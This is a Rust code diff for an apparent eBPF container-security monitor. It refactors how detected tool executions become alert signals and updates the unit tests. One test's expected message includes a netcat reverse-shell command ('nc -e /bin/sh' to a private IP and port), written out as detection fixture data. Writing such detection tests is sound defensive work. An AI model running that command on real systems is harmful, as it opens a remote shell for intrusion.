@@ -4,7 +4,8 @@ use std::path::Path;
 
 use portcullis_bpf::abi::{Ancestor, Event, Hook, Verdict, flags, identified_by, place};
 use portcullis_policy::{
-    catalog, policyset,
+    catalog::{self, BEHAVIOUR},
+    policyset,
     record::{ContainerRecord, Guard},
 };
 use portcullis_proto::v1;
@@ -21,9 +22,6 @@ pub const RULE_NET_UTIL: &str = "net_util_in_container";
 /// A container without guard.
 pub const RULE_UNGUARDED: &str = "container_unguarded";
 
-/// The catalogue's category of findings that are no tool's; their ids are rules of their own.
-const BEHAVIOUR: &str = "behaviour";
-
 /// Directories for temporary files, in every container and in none by intention part of an image.
 const TEMPORARY: [&str; 4] = ["/tmp", "/var/tmp", "/dev/shm", "/run"];
 
@@ -31,17 +29,12 @@ const CRI: &str = "io.kubernetes.cri.";
 
 /// The signal of an event. The container is `None` when it has no record.
 pub fn from_event(event: &Event, container: Option<&Container>, tools: &Tools, offset: BootOffset) -> v1::Signal {
-    let tool = tools.get(event.tool);
+    let (tool, severity) = tool_message(event.tool, tools);
     let record = container.map(|container| container.record.as_ref());
     let verdict = verdict(event.verdict);
     let argv: Vec<String> = event.argv.iter().map(|argument| text::lossy(argument)).collect();
     let argv_truncated = event.flags & (flags::ARGV_TRUNCATED | flags::EVENT_REDUCED) != 0;
     let at = |boot_ns| Some(timestamp(offset.wall_ns(boot_ns)));
-    let (tool_id, category) = match tool {
-        Some((tool, _)) => (tool.id.clone(), tool.category.clone()),
-        // The table in the kernel is newer than this catalogue.
-        None => (format!("tool-{}", event.tool), "unknown".to_owned()),
-    };
     let done = match event.verdict {
         Verdict::Detected => "executed",
         Verdict::WouldBlock => "executed (enforce mode would block it)",
@@ -56,16 +49,12 @@ pub fn from_event(event: &Event, container: Option<&Container>, tools: &Tools, o
     let remote = event.remote.map(|remote| format!(", connected to {remote}")).unwrap_or_default();
     v1::Signal {
         id: 0,
-        rule: if category == BEHAVIOUR { tool_id.clone() } else { RULE_NET_UTIL.to_owned() },
-        severity: tool.map_or(v1::Severity::Medium, |(_, level)| severity(level)).into(),
+        rule: if tool.category == BEHAVIOUR { tool.id.clone() } else { RULE_NET_UTIL.to_owned() },
+        severity: severity.into(),
         verdict: verdict.into(),
         time: at(event.time_ns),
-        message: format!("{tool_id} ({category}) {done} in container {place}{remote}: {command}"),
-        tool: Some(v1::Tool {
-            id: tool_id,
-            category,
-            techniques: tool.map(|(tool, _)| tool.techniques.clone()).unwrap_or_default(),
-        }),
+        message: format!("{} ({}) {done} in container {place}{remote}: {command}", tool.id, tool.category),
+        tool: Some(tool),
         identified_by: identifications(event.identified_by),
         container: Some(match container {
             Some(container) => container_message(container),
@@ -230,6 +219,15 @@ fn verdict(verdict: Verdict) -> v1::Verdict {
     }
 }
 
+fn tool_message(kernel_id: u32, tools: &Tools) -> (v1::Tool, v1::Severity) {
+    let Some((tool, level)) = tools.get(kernel_id) else {
+        // The kernel's tables held another catalogue.
+        let tool = v1::Tool { id: format!("tool-{kernel_id}"), category: "unknown".to_owned(), techniques: Vec::new() };
+        return (tool, v1::Severity::Medium);
+    };
+    (v1::Tool { id: tool.id, category: tool.category, techniques: tool.techniques }, severity(level))
+}
+
 fn severity(severity: catalog::Severity) -> v1::Severity {
     match severity {
         catalog::Severity::Low => v1::Severity::Low,
@@ -272,18 +270,19 @@ mod tests {
     }
 
     fn tools() -> Tools {
-        Tools::new(catalog::Catalog::shipped().unwrap())
+        Tools::new(catalog::Catalog::shipped().unwrap(), [].into())
     }
 
     /// The kernel's id of a tool.
-    fn tool_id(tools: &Tools, id: &str) -> u32 {
-        tools.catalog().tools().iter().find(|tool| tool.id == id).unwrap().kernel_id()
+    fn tool_id(id: &str) -> u32 {
+        let catalog = catalog::Catalog::shipped().unwrap();
+        catalog.tools().iter().find(|tool| tool.id == id).unwrap().kernel_id()
     }
 
     #[test]
     fn an_event_becomes_a_signal() {
         let tools = tools();
-        let event = testing::event(42, tool_id(&tools, "nc"), 10);
+        let event = testing::event(42, tool_id("nc"), 10);
         let signal = from_event(&event, Some(&container(42)), &tools, BootOffset::now());
         assert_eq!(signal.message, "nc (netcat) blocked in container c1: nc -e /bin/sh 10.0.0.1 4444");
         assert_eq!(signal.rule, "net_util_in_container");
@@ -306,7 +305,7 @@ mod tests {
     #[test]
     fn a_behaviour_is_a_rule_of_its_own() {
         let tools = tools();
-        let mut event = testing::event(42, tool_id(&tools, "reverse_shell"), 10);
+        let mut event = testing::event(42, tool_id("reverse_shell"), 10);
         event.identified_by = identified_by::STDIO;
         event.exe = b"/dev/shm/x".to_vec();
         event.place = place::UPPER_LAYER;
@@ -327,13 +326,12 @@ mod tests {
     #[test]
     fn the_policy_may_give_another_severity() {
         let tools = tools();
-        let nc = tool_id(&tools, "nc");
-        let severity = || from_event(&testing::event(42, nc, 10), None, &tools, BootOffset::now()).severity();
-        let before = severity();
-        tools.set_severities([(nc, catalog::Severity::Low)].into());
-        assert_eq!(severity(), v1::Severity::Low);
-        tools.set_severities([].into());
-        assert_eq!(severity(), before);
+        let nc = tool_id("nc");
+        let severity =
+            |tools: &Tools| from_event(&testing::event(42, nc, 10), None, tools, BootOffset::now()).severity();
+        assert_eq!(severity(&tools), v1::Severity::High);
+        let lower = Tools::new(catalog::Catalog::shipped().unwrap(), [(nc, catalog::Severity::Low)].into());
+        assert_eq!(severity(&lower), v1::Severity::Low);
     }
 
     #[test]
